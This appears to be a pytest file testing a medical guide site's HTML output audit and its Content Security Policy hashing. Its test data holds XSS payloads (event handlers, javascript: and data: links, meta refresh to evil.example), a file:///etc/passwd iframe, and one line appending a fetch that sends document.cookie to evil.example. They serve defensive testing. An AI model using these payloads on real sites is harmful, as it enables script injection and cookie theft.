"""The output check (calcguide/audit.py) and the CSP (calcguide/csp.py): what a page or a handout may hold once
built, whatever put it there. Fast tier: HTML written in the test, and the theme's templates rendered."""
from __future__ import annotations

import base64
import hashlib
import re
from html.parser import HTMLParser

import pytest

from calcguide.audit import OutputCheckError, check_handout, check_html, check_site
from calcguide.csp import OurScripts, inline_script_hashes, script_hash
from calcguide.search import write_index
from calcguide.site import read_base_config
from calcguide.pages import plan_pages
from calcguide.redirects import plan_redirects
from conftest import PROJECT


@pytest.fixture(scope="module")
def ours() -> OurScripts:
    return OurScripts.from_templates(PROJECT, read_base_config(PROJECT)["theme"].get("features", []))


def page(body: str, head: str = "") -> str:
    return f"<!doctype html><html><head><meta charset=utf-8>{head}<title>t</title></head><body>{body}</body></html>"


THEME_SCOPE = ('__md_scope=new URL("{base}",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
               '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
               '__md_set=(e,_,t=localStorage,a=__md_scope)=>{{try{{t.setItem(a.pathname+"."+e,JSON.stringify(_))}}'
               'catch(e){{}}}}')

HOSTILE = {
    "event handler": page('<button autofocus onfocus="alert(1)">Print</button>'),
    "event handler in svg": page('<svg><circle onload="alert(1)"/></svg>'),
    "meta refresh": page("", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    "meta refresh, odd case": page("", '<meta HTTP-EQUIV=" Refresh" content="0">'),
    "javascript link": page('<a href="javascript:alert(1)">dose</a>'),
    "javascript link with tab and entity": page('<a href="java&#9;script&colon;alert(1)">dose</a>'),
    "javascript in svg animate": page('<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>'),
    "data link": page('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">dose</a>'),
    "outside image": page('<img src="https://evil.example/pixel.png" alt="">'),
    "protocol-relative script": page('<script src="//evil.example/x.js"></script>'),
    "outside stylesheet": page("", '<link rel="stylesheet" href="https://cdn.example/x.css">'),
    "outside srcset": page('<img src="a.png" srcset="a.png 1x, https://evil.example/b.png 2x" alt="">'),
    "outside style url": page('<p style="background:url(https://evil.example/x.png)">x</p>'),
    "outside import in style": page("", "<style>@import 'https://evil.example/x.css';</style>"),
    "iframe of a local file": page('<iframe src="file:///etc/passwd"></iframe>'),
    "object": page('<object data="x.pdf"></object>'),
    "base": page("", '<base href="https://evil.example/">'),
    "foreign inline script": page("<script>alert(1)</script>"),
    "theme script with a changed base": page("<script>" + THEME_SCOPE.format(base='",alert(1),"') + "</script>"),
    "unknown script type": page('<script type="speculationrules">{"prefetch":[]}</script>'),
    "json block that is not json": page('<script type="application/json">alert(1)</script>'),
    # Issue 21: what a deny-list missed, refused because the policy does not name it.
    "css escape in a style element": page("", "<style>p{background:url(https\\3a //evil.example/x.png)}</style>"),
    "image-set in a style element": page("", "<style>p{background:image-set('https://evil.example/x.png' 1x)}</style>"),
    "style attribute": page('<p style="position:fixed;inset:0">give warfarin 10 mg</p>'),
    "dir attribute on text": page('<p dir="rtl">480 mg</p>'),
    "unknown data attribute": page('<p data-x="1">x</p>'),
    "theme id in the content": page('<article class="md-content__inner"><h2 id="__config">x</h2></article>'),
    "id written twice": page('<div id="__search"></div><span id="__search"></span>'),
    "attribute written twice": page('<a href="#x" href="javascript:alert(1)">x</a>'),
    "unknown element": page("<marquee>x</marquee>"),
    "protocol-relative link": page('<a href="//evil.example/">x</a>'),
    "backslash link": page('<a href="\\\\evil.example/">x</a>'),
    "meta set-cookie": page("", '<meta http-equiv="set-cookie" content="a=b">'),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_output_check_finds_each_hostile_construct(ours, case):
    problems = check_html(HOSTILE[case], ours.allows)
    assert problems and all(problem.startswith("line ") for problem in problems), problems


SAFE = page('<a href="https://pubmed.ncbi.nlm.nih.gov/1/">PubMed</a> <a href="../references.html#x">1</a> '
            '<a href="mailto:editors@example.org">mail</a> <img src="assets/logo.svg" alt=""> '
            '<img src="data:image/png;base64,AAAA" alt=""> <script src="assets/javascripts/bundle.js"></script>'
            '<script id="__config" type="application/json">{"base": ".."}</script>'
            '<link rel="canonical" href="https://guide.example/en/">',
            '<link rel="stylesheet" href="assets/stylesheets/guide.css">')


def test_output_check_passes_links_local_resources_and_json_data(ours):
    assert check_html(SAFE, ours.allows) == []


@pytest.mark.parametrize("base", [".", "..", "../..", "/en/"])
def test_theme_scripts_are_allowed_for_every_base_url(ours, base):
    assert check_html(page("<script>" + THEME_SCOPE.format(base=base) + "</script>"), ours.allows) == []


def test_handout_may_hold_no_script_and_load_nothing_but_itself():
    for body in ["<script>document.title='x'</script>", '<img src="../../etc/x.png" alt="">',
                 '<img src="/etc/x.png" alt="">', '<link rel="stylesheet" href="file:///etc/x.css">',
                 '<a href="file:///etc/passwd">x</a>', "<style>p{background:url(x.png)}</style>",
                 "<style>@import 'x.css';</style>", '<a href="x.html">x</a>']:
        with pytest.raises(OutputCheckError):
            check_handout(page(body), "handout-en.html")
    check_handout(page('<a href="https://guide.example/en/">guide</a>'), "handout-en.html")


def test_csp_hashes_only_the_scripts_our_templates_write(ours, tmp_path):
    (tmp_path / "en").mkdir()
    (tmp_path / "en" / "index.html").write_text(page("<script>" + THEME_SCOPE.format(base=".") + "</script>"))
    assert inline_script_hashes(tmp_path, ours) == [script_hash(THEME_SCOPE.format(base="."))]
    (tmp_path / "en" / "other.html").write_text(page("<script>alert(1)</script>"))
    with pytest.raises(OutputCheckError, match="did not write"):
        inline_script_hashes(tmp_path, ours)


# Our own script with attacker code around it: a check that matched only the script's start (re.match), its end,
# or any part of it (re.search) would let each of these run, and give it a hash in the CSP.
TAMPERED = {
    "code appended": THEME_SCOPE.format(base=".") + ";fetch('https://evil.example/?'+document.cookie)",
    "code appended on a new line": THEME_SCOPE.format(base="..") + "\nalert(1)",
    "code prepended": "alert(1);" + THEME_SCOPE.format(base="."),
}


@pytest.mark.parametrize("case", sorted(TAMPERED))
def test_our_script_with_attacker_code_around_it_is_refused_by_the_audit_and_gets_no_hash(ours, case, tmp_path):
    assert not ours.allows(TAMPERED[case])
    problems = check_html(page("<script>" + TAMPERED[case] + "</script>"), ours.allows)
    assert len(problems) == 1 and "an inline script that our templates did not write" in problems[0], problems

    (tmp_path / "en").mkdir()
    (tmp_path / "en" / "index.html").write_text(page("<script>" + TAMPERED[case] + "</script>"))
    with pytest.raises(OutputCheckError, match="en/index.html: an inline script that our templates did not write"):
        inline_script_hashes(tmp_path, ours)


def test_search_index_texts_are_checked_as_html(ours, tmp_path):
    site = tmp_path / "site"
    (site / "en" / "search").mkdir(parents=True)
    write_index(site / "en", {"docs": [{"location": "x.html", "title": "x", "text": "<img src=x onerror=alert(1)>"}]})
    with pytest.raises(OutputCheckError, match="onerror"):
        check_site([site / "en"], site, ours.allows)


def test_built_site_passes_the_output_check(built, ours, guide, catalogue):
    redirects = {redirect.site_path: redirect.relative_target
                 for redirect in plan_redirects(guide, plan_pages(guide, catalogue))}
    check_site([built.site_dir / "en", built.site_dir / "fr", built.site_dir / "index.html"], built.site_dir,
               ours.allows, redirects)


class _InlineScripts(HTMLParser):
    """The text of every <script> without src, read by the standard library's parser (not by the code under test)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=False)
        self.sources: list[str] = []
        self._open: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script" and "src" not in attributes and attributes.get("type") in (None, "", "text/javascript"):
            self._open = []

    def handle_data(self, data):
        if self._open is not None:
            self._open.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self._open is not None:
            self.sources.append("".join(self._open))
            self._open = None


def test_built_csp_file_allows_exactly_the_inline_scripts_of_the_built_pages(built):
    # The hashes are worked out here, from the pages as built, and compared with the policy's as sets: one hash
    # too many (an injected script) or too few (a page that would break) fails.
    expected = set()
    for path in built.site_dir.rglob("*.html"):
        parser = _InlineScripts()
        parser.feed(path.read_text(encoding="utf-8"))
        expected |= {"sha256-" + base64.b64encode(hashlib.sha256(source.encode()).digest()).decode()
                     for source in parser.sources}
    policy = (built.dist_dir / "nginx-csp.conf").read_text(encoding="utf-8")
    header = re.search(r'add_header Content-Security-Policy "([^"]+)" always;', policy).group(1)
    script_src = next(part.split()[1:] for part in header.split("; ") if part.startswith("script-src "))
    assert expected  # the theme writes inline scripts: an empty set would mean the parser above saw nothing
    assert script_src == ["'self'", *sorted(f"'{digest}'" for digest in expected)]
    assert header.startswith("default-src 'none'; ")
